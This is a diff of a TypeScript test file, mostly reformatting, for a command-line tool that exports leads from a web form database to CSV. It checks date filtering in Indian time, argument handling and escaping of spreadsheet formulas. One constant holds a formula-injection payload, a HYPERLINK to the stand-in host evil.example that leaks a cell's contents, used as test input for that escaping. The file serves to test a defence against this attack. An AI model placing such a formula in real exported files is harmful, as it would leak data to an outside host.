@@ -18,11 +18,15 @@ import { newestSubmissionId, newsletterSubscriptionId, quoteRequest } from '../t
 import { writeLeadsCsv } from './csv.js';
 
 const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
-const TRICKY_MESSAGE = 'We run 40 trucks, all "BS-VI",\nout of Surat and Vapi;\nplease call after 6, thanks.';
+const TRICKY_MESSAGE =
+  'We run 40 trucks, all "BS-VI",\nout of Surat and Vapi;\nplease call after 6, thanks.';
 
 describe('the lead export on submissions stored through the API', () => {
   let api: TestApi;
-  const ids: Record<'vendor' | 'partnerBefore' | 'partnerOnDay' | 'contact' | 'newsletter' | 'quote', number> = {
+  const ids: Record<
+    'vendor' | 'partnerBefore' | 'partnerOnDay' | 'contact' | 'newsletter' | 'quote',
+    number
+  > = {
     quote: 0,
     vendor: 0,
     partnerBefore: 0,
@@ -31,9 +35,16 @@ describe('the lead export on submissions stored through the API', () => {
     newsletter: 0,
   };
 
-  async function store(url: Parameters<typeof newestSubmissionId>[1], body: Record<string, unknown>): Promise<number> {
+  async function store(
+    url: Parameters<typeof newestSubmissionId>[1],
+    body: Record<string, unknown>,
+  ): Promise<number> {
     const captcha = url === '/api/store/newsletter' ? undefined : await solvedCaptcha(api.app);
-    const response = await api.app.inject({ method: 'POST', url, payload: { ...body, consent: true, captcha } });
+    const response = await api.app.inject({
+      method: 'POST',
+      url,
+      payload: { ...body, consent: true, captcha },
+    });
     expect(response.statusCode, response.body).toBe(201);
     return newestSubmissionId(api.database.db, url);
   }
@@ -51,7 +62,9 @@ describe('the lead export on submissions stored through the API', () => {
   }
 
   beforeAll(async () => {
-    api = await buildTestApi({ rateLimits: { windowMs: 60_000, submissions: 1_000, requests: 1_000 } });
+    api = await buildTestApi({
+      rateLimits: { windowMs: 60_000, submissions: 1_000, requests: 1_000 },
+    });
     ids.vendor = await store('/api/store/partner', {
       type: 1,
       name: 'Suresh Fuels',
@@ -93,12 +106,29 @@ describe('the lead export on submissions stored through the API', () => {
     const db = api.database.db;
     // A data request proved by its code (the API's steps are tested in routes/store/data-request.test.ts).
     const proved = new Date().toISOString();
-    await db.insert(dataRequests).values({ reference: 'DR-LEAD-0001', right: 'access', email: 'asker@example.in', consentVersion: '2026-11', consentedAt: proved, verifiedAt: proved, dueAt: proved });
+    await db.insert(dataRequests).values({
+      reference: 'DR-LEAD-0001',
+      right: 'access',
+      email: 'asker@example.in',
+      consentVersion: '2026-11',
+      consentedAt: proved,
+      verifiedAt: proved,
+      dueAt: proved,
+    });
 
     // The last moment of 14 January and the first of 15 January 2026 in India (UTC+05:30).
-    await db.update(partnerEnquiries).set({ createdAt: '2026-01-14T18:29:59.999Z' }).where(eq(partnerEnquiries.id, ids.partnerBefore));
-    await db.update(partnerEnquiries).set({ createdAt: '2026-01-14T18:30:00Z' }).where(eq(partnerEnquiries.id, ids.partnerOnDay));
-    await db.update(partnerEnquiries).set({ createdAt: '2026-01-10T06:30:00Z' }).where(eq(partnerEnquiries.id, ids.vendor));
+    await db
+      .update(partnerEnquiries)
+      .set({ createdAt: '2026-01-14T18:29:59.999Z' })
+      .where(eq(partnerEnquiries.id, ids.partnerBefore));
+    await db
+      .update(partnerEnquiries)
+      .set({ createdAt: '2026-01-14T18:30:00Z' })
+      .where(eq(partnerEnquiries.id, ids.partnerOnDay));
+    await db
+      .update(partnerEnquiries)
+      .set({ createdAt: '2026-01-10T06:30:00Z' })
+      .where(eq(partnerEnquiries.id, ids.vendor));
   });
   afterAll(async () => {
     await api?.close();
@@ -173,14 +203,21 @@ describe('the lead export on submissions stored through the API', () => {
     expect(text).not.toMatch(/(^|,|\r\n)"?[=+\-@]/);
 
     const [contact] = (await exportCsv('contact')).records;
-    expect(contact).toMatchObject({ id: String(ids.contact), name: 'Anita Rao', phone: `'+91 98765 44444`, subject: "'-Rates for Pune" });
+    expect(contact).toMatchObject({
+      id: String(ids.contact),
+      name: 'Anita Rao',
+      phone: `'+91 98765 44444`,
+      subject: "'-Rates for Pune",
+    });
     const [reader] = (await exportCsv('newsletter')).records;
     expect(reader).toMatchObject({ id: String(ids.newsletter), email: 'reader@example.in' });
   });
 
   it('keeps, with --since, what came in from the start of that day in India', async () => {
     const onDay = await exportCsv('partner', '2026-01-15');
-    expect(onDay.records.map((r) => [r.id, r.received_at])).toEqual([[String(ids.partnerOnDay), '2026-01-15T00:00:00+05:30']]);
+    expect(onDay.records.map((r) => [r.id, r.received_at])).toEqual([
+      [String(ids.partnerOnDay), '2026-01-15T00:00:00+05:30'],
+    ]);
 
     const dayBefore = await exportCsv('partner', '2026-01-14');
     expect(dayBefore.records.map((r) => [r.id, r.received_at])).toEqual([
@@ -201,11 +238,18 @@ describe('the lead export on submissions stored through the API', () => {
 const cliEntry = fileURLToPath(new URL('./leads.ts', import.meta.url));
 
 /** Runs `npm run leads` from the TypeScript source, as its user would, with a time limit. */
-function runCli(args: string[], env: NodeJS.ProcessEnv): Promise<{ code: number | null; stdout: string; stderr: string }> {
-  const child = spawn(process.execPath, ['--import', 'tsx', '--conditions=source', cliEntry, ...args], {
-    env: { ...process.env, DATABASE_URL: '', ...env },
-    stdio: ['ignore', 'pipe', 'pipe'],
-  });
+function runCli(
+  args: string[],
+  env: NodeJS.ProcessEnv,
+): Promise<{ code: number | null; stdout: string; stderr: string }> {
+  const child = spawn(
+    process.execPath,
+    ['--import', 'tsx', '--conditions=source', cliEntry, ...args],
+    {
+      env: { ...process.env, DATABASE_URL: '', ...env },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    },
+  );
   let stdout = '';
   let stderr = '';
   child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
@@ -228,16 +272,20 @@ describe.runIf(TEST_DRIVER === 'pglite')('npm run leads', () => {
     await rm(dataDir, { recursive: true, force: true });
   });
 
-  it.each([[[]], [['--kind', 'customers']], [['--kind', 'partner', '--since', '2026-02-30']], [['--kind', 'partner', 'extra']]])(
-    'answers the arguments %j with the usage on stderr and exit code 2',
-    async (args) => {
-      const { code, stdout, stderr } = await runCli(args, { DATA_DIR: dataDir });
-      expect(code).toBe(2);
-      expect(stdout).toBe('');
-      expect(stderr).toContain('Usage: npm run -s leads -- --kind <partner|vendor|contact|newsletter|quote|comment|data_request> [--since YYYY-MM-DD]');
-      expect(stderr).not.toMatch(/\n\s+at /);
-    },
-  );
+  it.each([
+    [[]],
+    [['--kind', 'customers']],
+    [['--kind', 'partner', '--since', '2026-02-30']],
+    [['--kind', 'partner', 'extra']],
+  ])('answers the arguments %j with the usage on stderr and exit code 2', async (args) => {
+    const { code, stdout, stderr } = await runCli(args, { DATA_DIR: dataDir });
+    expect(code).toBe(2);
+    expect(stdout).toBe('');
+    expect(stderr).toContain(
+      'Usage: npm run -s leads -- --kind <partner|vendor|contact|newsletter|quote|comment|data_request> [--since YYYY-MM-DD]',
+    );
+    expect(stderr).not.toMatch(/\n\s+at /);
+  });
 
   it('says so, with exit code 1, when there is no database or the server has it open', async () => {
     const missing = await runCli(['--kind', 'partner'], { DATA_DIR: join(dataDir, 'nowhere') });
